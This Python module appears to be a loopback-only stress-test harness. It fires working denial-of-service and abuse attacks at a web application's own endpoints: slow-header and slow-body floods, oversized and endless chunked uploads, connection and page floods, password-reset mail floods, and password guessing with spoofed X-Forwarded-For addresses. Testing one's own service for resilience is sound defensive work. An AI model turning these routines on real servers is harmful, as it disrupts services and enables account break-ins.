"""The attacks. Each holds or repeats what it does until `until`, on this machine's loopback alone."""

from __future__ import annotations

import contextlib
import http.client
import socket
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack

SOURCE = "127.0.0.2"
"""Where strangers come from, where nobody stands between."""

FORM = "Content-Type: application/x-www-form-urlencoded"


def _connected(port: int) -> socket.socket:
    return socket.create_connection(("127.0.0.1", port), timeout=5, source_address=(SOURCE, 0))


def _head(method: str, path: str, *headers: str) -> bytes:
    return "\r\n".join((f"{method} {path} HTTP/1.1", "Host: localhost", *headers, "", "")).encode()


@contextlib.contextmanager
def _many(port: int, count: int, *sent: bytes) -> Iterator[list[socket.socket]]:
    """Connections on which these bytes were sent; those that are refused are left out."""
    with ExitStack() as stack:
        held = []
        for _ in range(count):
            with contextlib.suppress(OSError):
                one = stack.enter_context(contextlib.closing(_connected(port)))
                for part in sent:
                    one.sendall(part)
                held.append(one)
        yield held


def _drip(held: list[socket.socket], until: float, drop: bytes = b"x") -> None:
    """Send a byte on each connection now and then; those that were closed meanwhile are let go."""
    while time.monotonic() < until:
        for one in tuple(held):
            try:
                one.sendall(drop)
            except OSError:
                held.remove(one)
        time.sleep(0.5)


def slow_uploads(port: int, until: float) -> None:
    """Bodies that announce 900 kB and come a byte at a time."""
    with _many(port, 60, _head("POST", "/accounts/login/", FORM, "Content-Length: 900000"), b"a=") as held:
        _drip(held, until)


def large_uploads(port: int, until: float) -> None:
    """Bodies of 200 MB, sent as fast as they are taken."""
    while time.monotonic() < until:
        with _many(port, 8, _head("POST", "/", FORM, "Content-Length: 200000000")) as held:
            for one in held:
                with contextlib.suppress(OSError):
                    for _ in range(40):
                        one.sendall(b"x" * 65_536)


def endless_chunks(port: int, until: float) -> None:
    """Bodies that never say how long they are."""
    chunk = b"8000\r\n" + b"x" * 0x8000 + b"\r\n"
    with _many(port, 30, _head("POST", "/", FORM, "Transfer-Encoding: chunked")) as held:
        _drip(held, until, chunk)


def slow_heads(port: int, until: float) -> None:
    """Requests whose head never ends."""
    while time.monotonic() < until:
        with _many(port, 300, b"GET / HTTP/1.1\r\nHost: local") as held:
            _drip(held, min(until, time.monotonic() + 4))


def silent_connections(port: int, until: float) -> None:
    """Connections on which nothing is ever said, and new ones for those that are closed."""
    while time.monotonic() < until:
        with _many(port, 600):
            time.sleep(max(0.0, min(3.0, until - time.monotonic())))


def slow_readers(port: int, until: float) -> None:
    """Many answers asked for and none read."""
    asked = _head("GET", "/static/css/all.css") * 50 + _head("GET", "/odds/") * 5
    with _many(port, 40, asked):
        time.sleep(max(0.0, until - time.monotonic()))


def page_floods(port: int, until: float) -> None:
    """Hundreds of pages asked for at once, again and again."""
    while time.monotonic() < until:
        with _many(port, 300, _head("GET", "/odds/")):
            time.sleep(max(0.0, min(1.0, until - time.monotonic())))


def form_floods(port: int, until: float) -> None:
    """Hundreds of rolls on the welcome page at once, again and again."""
    token = "b" * 32
    headers = (FORM, "Content-Length: 6", f"X-CSRFToken: {token}", f"Cookie: csrftoken={token}")
    while time.monotonic() < until:
        with _many(port, 300, _head("POST", "/try/", *headers), b"pool=5"):
            time.sleep(max(0.0, min(1.0, until - time.monotonic())))


def password_resets(port: int, until: float) -> None:
    """Mail asked for again and again from a mail server that says nothing."""
    _repeat(port, until, "/accounts/password/reset/", "email=vera%40example.org")


def password_guesses(port: int, until: float) -> None:
    """Passwords guessed as fast as they are refused, each time from another made-up address."""
    _repeat(port, until, "/accounts/login/", "login=Noor&password=guess")


def invite_guesses(port: int, until: float) -> None:
    """Invites guessed as fast as they are refused."""
    _repeat(port, until, "/join/guess/", "")


def strangers_streams(port: int, until: float) -> None:
    """Streams asked for by nobody, held for as long as they last."""
    while time.monotonic() < until:
        with _many(port, 200, _head("GET", "/campaigns/1/stream/")):
            time.sleep(max(0.0, min(1.0, until - time.monotonic())))


def _repeat(port: int, until: float, path: str, body: str) -> None:
    token, number = "b" * 32, 0
    while time.monotonic() < until:
        asked = http.client.HTTPConnection("127.0.0.1", port, timeout=10, source_address=(SOURCE, 0))
        with contextlib.suppress(OSError, http.client.HTTPException):
            while time.monotonic() < until:
                number += 1
                headers = {
                    "Cookie": f"csrftoken={token}", "X-CSRFToken": token,
                    "X-Forwarded-For": f"198.51.100.{number % 250}",
                    "Content-Type": "application/x-www-form-urlencoded",
                }  # fmt: skip
                asked.request("POST" if body else "GET", path, body or None, headers)
                asked.getresponse().read()
        asked.close()


ATTACKS: dict[str, Callable[[int, float], None]] = {
    attack.__name__: attack
    for attack in (
        slow_uploads, large_uploads, endless_chunks, slow_heads, silent_connections, slow_readers, page_floods,
        form_floods, password_resets,
        password_guesses, invite_guesses, strangers_streams,
    )
}  # fmt: skip
